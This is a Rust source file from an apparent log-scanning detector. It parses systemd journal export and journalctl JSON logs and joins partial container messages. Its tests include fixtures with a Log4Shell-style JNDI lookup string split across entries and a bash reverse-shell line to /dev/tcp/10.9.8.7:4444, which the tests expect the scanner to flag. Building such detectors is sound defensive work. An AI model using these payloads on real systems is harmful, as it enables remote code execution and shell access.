//! systemd journal export logs (`journalctl -o export`, what the `journald` log driver
//! leaves): `FIELD=value` lines (binary fields as a name line, a little-endian u64 length
//! and the bytes), entries separated by an empty line. `MESSAGE` is the record, the time
//! `__REALTIME_TIMESTAMP` (µs), the stream `PRIORITY` (3 = stderr, 6 = stdout), and
//! `CONTAINER_PARTIAL_MESSAGE=true` parts are joined per `CONTAINER_ID` and stream; the
//! record's line and offset are its entry's first field's. `journalctl -o json` lines (the
//! same fields as one object per line) are read too.

use super::{first_line, without_bom, Cutter, Framing};
use crate::logscan::records::{Line, Records, KEY_SEP};
use crate::model::Timestamp;

/// The journal export format (and `journalctl -o json`).
#[derive(Clone, Copy, Debug)]
pub(crate) struct Journal;

impl Framing for Journal {
    fn name(&self) -> &'static str {
        "journal-export"
    }

    fn sniff(&self, head: &[u8]) -> bool {
        let h = without_bom(head);
        h.starts_with(b"__CURSOR=")
            || h.starts_with(b"__REALTIME_TIMESTAMP=")
            || (h.starts_with(b"{")
                && memchr::memmem::find(first_line(h), b"\"__REALTIME_TIMESTAMP\"").is_some())
    }

    fn cutter(&self) -> Box<dyn Cutter> {
        Box::<JournalCutter>::default()
    }
}

/// The journal entry being read.
#[derive(Default)]
struct Entry {
    /// Line and offset of its first field.
    start: Option<(u64, u64)>,
    message: Option<Vec<u8>>,
    time: Option<Timestamp>,
    priority: Option<u8>,
    container: Option<String>,
    partial: bool,
    /// A binary field being read: (is MESSAGE, bytes still to read, bytes so far).
    binary: Option<(bool, u64, Vec<u8>)>,
    /// A binary field's name line was read; its length comes next.
    binary_name: Option<bool>,
}

#[derive(Default)]
struct JournalCutter {
    entry: Entry,
}

impl Cutter for JournalCutter {
    fn line(&mut self, line: Line<'_>, out: &mut Records<'_>) {
        self.field(line.bytes, line.ends, line.number, line.offset, out);
    }

    /// Binary field data may span lines: every region is read field by field.
    fn tail_as_text(&self) -> bool {
        false
    }

    /// The last entry may lack its empty line.
    fn flush(&mut self, out: &mut Records<'_>) {
        self.entry_done(out);
    }
}

impl JournalCutter {
    /// One line of a journal export (or a piece of a binary field's data).
    fn field(&mut self, raw: &[u8], ends_line: bool, line: u64, offset: u64, out: &mut Records<'_>) {
        let max_join = out.cfg().max_join;
        let j = &mut self.entry;
        if let Some((is_msg, need, mut data)) = j.binary.take() {
            // Binary data may hold newlines: the line cut is part of the data. What is kept
            // is bounded by the join limit, whatever length the field claims.
            let take = (raw.len() as u64).min(need) as usize;
            let room = max_join.saturating_sub(data.len());
            data.extend_from_slice(&raw[..take.min(room)]);
            let mut left = need - take as u64;
            if left > 0 && ends_line {
                if data.len() < max_join {
                    data.push(b'\n');
                }
                left -= 1;
            }
            if left > 0 {
                j.binary = Some((is_msg, left, data));
            } else if is_msg {
                j.message = Some(data);
            }
            return;
        }
        if let Some(is_msg) = j.binary_name.take() {
            if raw.len() >= 8 {
                let need = u64::from_le_bytes(raw[..8].try_into().unwrap_or_default());
                let rest = &raw[8..];
                j.binary = Some((is_msg, need, Vec::new()));
                self.field(rest, ends_line, line, offset, out);
                return;
            }
        }
        if raw.is_empty() {
            self.entry_done(out);
            return;
        }
        if raw.first() == Some(&b'{') && j.start.is_none() {
            self.json_entry(raw, line, offset, out);
            return;
        }
        let j = &mut self.entry;
        j.start.get_or_insert((line, offset));
        match memchr::memchr(b'=', raw) {
            Some(eq) => {
                let (k, v) = (&raw[..eq], &raw[eq + 1..]);
                let s = || std::str::from_utf8(v).ok();
                match k {
                    b"MESSAGE" => j.message = Some(v.to_vec()),
                    b"__REALTIME_TIMESTAMP" => j.time = s().and_then(|t| t.parse::<i64>().ok()).map(micros),
                    b"PRIORITY" => j.priority = s().and_then(|p| p.parse().ok()),
                    b"CONTAINER_ID_FULL" => j.container = s().map(String::from),
                    b"CONTAINER_ID" if j.container.is_none() => j.container = s().map(String::from),
                    b"CONTAINER_PARTIAL_MESSAGE" => j.partial = v == b"true",
                    _ => {}
                }
            }
            None => j.binary_name = Some(raw == b"MESSAGE"),
        }
    }

    /// One `journalctl -o json` line: the same fields as one JSON object (`MESSAGE` a
    /// string, or an array of bytes when it is not UTF-8).
    fn json_entry(&mut self, raw: &[u8], line: u64, offset: u64, out: &mut Records<'_>) {
        let Ok(serde_json::Value::Object(o)) = serde_json::from_slice::<serde_json::Value>(raw) else {
            out.not_json(raw, line, offset);
            return;
        };
        let s = |k: &str| o.get(k).and_then(|v| v.as_str()).map(String::from);
        let message = match o.get("MESSAGE") {
            Some(serde_json::Value::String(m)) => Some(m.clone().into_bytes()),
            Some(serde_json::Value::Array(a)) => {
                Some(a.iter().filter_map(|b| b.as_u64()).map(|b| b as u8).collect::<Vec<u8>>())
            }
            _ => None,
        };
        self.entry = Entry {
            start: Some((line, offset)),
            message,
            time: s("__REALTIME_TIMESTAMP").and_then(|t| t.parse::<i64>().ok()).map(micros),
            priority: s("PRIORITY").and_then(|p| p.parse().ok()),
            container: s("CONTAINER_ID_FULL").or_else(|| s("CONTAINER_ID")),
            partial: s("CONTAINER_PARTIAL_MESSAGE").as_deref() == Some("true"),
            ..Default::default()
        };
        self.entry_done(out);
    }

    /// The entry read so far is complete: its message joins its container's stream.
    fn entry_done(&mut self, out: &mut Records<'_>) {
        let j = std::mem::take(&mut self.entry);
        let (Some((line, offset)), Some(msg)) = (j.start, j.message) else { return };
        let stream = match j.priority {
            Some(p) if p <= 3 => "stderr",
            Some(_) => "stdout",
            None => "",
        };
        let key = format!("{stream}{KEY_SEP}{}", j.container.unwrap_or_default());
        out.join_part(&key, stream, &msg, j.partial, line, offset, j.time);
    }
}

/// A `__REALTIME_TIMESTAMP` (microseconds since the epoch) as a time.
fn micros(us: i64) -> Timestamp {
    Timestamp::from_unix(us.div_euclid(1_000_000), (us.rem_euclid(1_000_000) * 1000) as u32)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logscan::engine::Engine;
    use crate::logscan::framing::registry;
    use crate::logscan::records::ScanConfig;
    use crate::logscan::stream::scan_stream;
    use crate::model::Locator;

    #[test]
    fn journal_export_entries_joined_per_container_and_stream() {
        // Two containers interleaved; container a's message is cut in two partial entries with
        // container b's entry between them; a binary MESSAGE field holds a newline.
        let mut log = Vec::new();
        let entry = |fields: &[(&str, &str)]| {
            let mut e = String::new();
            for (k, v) in fields {
                e.push_str(&format!("{k}={v}\n"));
            }
            e.push('\n');
            e.into_bytes()
        };
        log.extend(entry(&[
            ("__CURSOR", "s=1"),
            ("__REALTIME_TIMESTAMP", "1764252000123456"),
            ("PRIORITY", "6"),
            ("CONTAINER_ID", "aaaa"),
            ("CONTAINER_PARTIAL_MESSAGE", "true"),
            ("MESSAGE", "GET /?q=${jn"),
        ]));
        log.extend(entry(&[
            ("__CURSOR", "s=2"),
            ("PRIORITY", "6"),
            ("CONTAINER_ID", "bbbb"),
            ("MESSAGE", "di:ldap://not.joined/}"),
        ]));
        log.extend(entry(&[
            ("__CURSOR", "s=3"),
            ("PRIORITY", "6"),
            ("CONTAINER_ID", "aaaa"),
            ("MESSAGE", "di:ldap://journal.example/a} HTTP/1.1"),
        ]));
        log.extend(b"__CURSOR=s=4\nPRIORITY=3\nCONTAINER_ID=cccc\nMESSAGE\n");
        let bin = b"line one\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1";
        log.extend((bin.len() as u64).to_le_bytes());
        log.extend(bin);
        log.extend(b"\n\n");
        let engine = Engine::builtin().unwrap();
        let loc = Locator::artifact("journal.export");
        for buf_size in [100, 1 << 20] {
            let cfg = ScanConfig { buf_size, max_record: 64, ..Default::default() };
            let scan = scan_stream(&log[..], &Journal, &engine, &cfg, &loc, 0);
            let jndi: Vec<_> = scan
                .hits
                .iter()
                .filter_map(|h| h.found.jndi.as_ref().map(|j| (h.locator.line, j.host.clone())))
                .collect();
            assert_eq!(jndi, [(Some(1), Some("journal.example".to_string()))], "buf {buf_size}");
            let first = scan.hits.iter().find(|h| h.found.jndi.is_some()).unwrap();
            assert_eq!(first.time.map(|t| t.to_iso()).as_deref(), Some("2025-11-27T14:00:00.123456000Z"));
            assert_eq!(first.stream.as_deref(), Some("stdout"));
            assert!(
                scan.hits.iter().any(|h| h.stream.as_deref() == Some("stderr") && h.excerpt.contains("/dev/tcp/10.9.8.7")),
                "binary MESSAGE field, stderr by PRIORITY"
            );
        }
        assert_eq!(registry::sniff(b"__CURSOR=s=1;i=2\n").name(), "journal-export");
        // `journalctl -o json`: one object per line, the same joins.
        let json = b"{\"__CURSOR\":\"s=1\",\"__REALTIME_TIMESTAMP\":\"1764252000000000\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"aaaa\",\"CONTAINER_PARTIAL_MESSAGE\":\"true\",\"MESSAGE\":\"GET /?q=${jn\"}\n\
{\"__CURSOR\":\"s=2\",\"__REALTIME_TIMESTAMP\":\"1764252000000001\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"bbbb\",\"MESSAGE\":\"noise\"}\n\
{\"__CURSOR\":\"s=3\",\"__REALTIME_TIMESTAMP\":\"1764252000000002\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"aaaa\",\"MESSAGE\":[100,105,58,108,100,97,112,58,47,47,106,46,101,120,97,109,112,108,101,47,97,125]}\n";
        assert_eq!(registry::sniff(json).name(), "journal-export");
        let scan = scan_stream(&json[..], &Journal, &engine, &ScanConfig::default(), &loc, 0);
        let jndi: Vec<_> = scan
            .hits
            .iter()
            .filter_map(|h| h.found.jndi.as_ref().map(|j| (h.locator.line, j.host.clone())))
            .collect();
        assert_eq!(jndi, [(Some(1), Some("j.example".to_string()))]);
    }

    #[test]
    fn journal_binary_field_claiming_a_huge_length_is_bounded() {
        let mut log = b"__CURSOR=s=1\nMESSAGE\n".to_vec();
        log.extend((1u64 << 40).to_le_bytes());
        log.extend(std::iter::repeat_n(b'a', 200_000));
        log.push(b'\n');
        let engine = Engine::builtin().unwrap();
        let cfg = ScanConfig { max_join: 4096, ..Default::default() };
        let scan = scan_stream(&log[..], &Journal, &engine, &cfg, &Locator::artifact("j"), 0);
        assert!(scan.hits.is_empty());
        assert_eq!(scan.bytes, log.len() as u64);
    }
}
